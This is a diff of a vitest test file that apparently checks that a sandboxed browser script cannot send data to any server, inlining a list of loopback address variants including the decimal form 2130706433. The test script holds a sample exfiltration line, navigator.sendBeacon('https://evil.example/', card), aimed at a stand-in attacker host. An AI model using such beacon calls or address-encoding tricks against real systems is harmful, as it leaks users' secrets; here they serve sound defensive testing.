@@ -1,7 +1,6 @@
 import { createSocket } from 'node:dgram'
 import { createServer } from 'node:http'
 import { type AddressInfo, createServer as createTcpServer } from 'node:net'
-import { atDepth } from '@tillwatch/testbed/depth'
 import { expect, it } from 'vitest'
 import { all, browser, run, shareBrowser, withCard } from './run.ts'
 
@@ -25,14 +24,9 @@ it('lets nothing out: whatever a script asks for, by whatever way, reaches no se
   ])
   const port = (web.address() as AddressInfo).port
   const rawPort = (raw.address() as AddressInfo).port
-  const names = ['127.0.0.1', 'localhost', '[::1]', '2130706433']
-  const hosts = atDepth(
-    [`127.0.0.1:${port}`, `127.0.0.1:${rawPort}`, `localhost:${port}`],
-    names.flatMap((name) => [`${name}:${port}`, `${name}:${rawPort}`]),
-  )
   const told = await run(`
     ${withCard("navigator.sendBeacon('https://evil.example/', card)")}
-    const hosts = ${JSON.stringify(hosts)}
+    const hosts = ['127.0.0.1', 'localhost', '[::1]', '2130706433'].flatMap((host) => [host + ':${port}', host + ':${rawPort}'])
     const add = (tag, name, value) => { const one = document.createElement(tag); one[name] = value; document.body.append(one); return one }
     for (const host of hosts) for (const scheme of ['http', 'https']) {
       const at = (way) => scheme + '://' + host + '/' + way
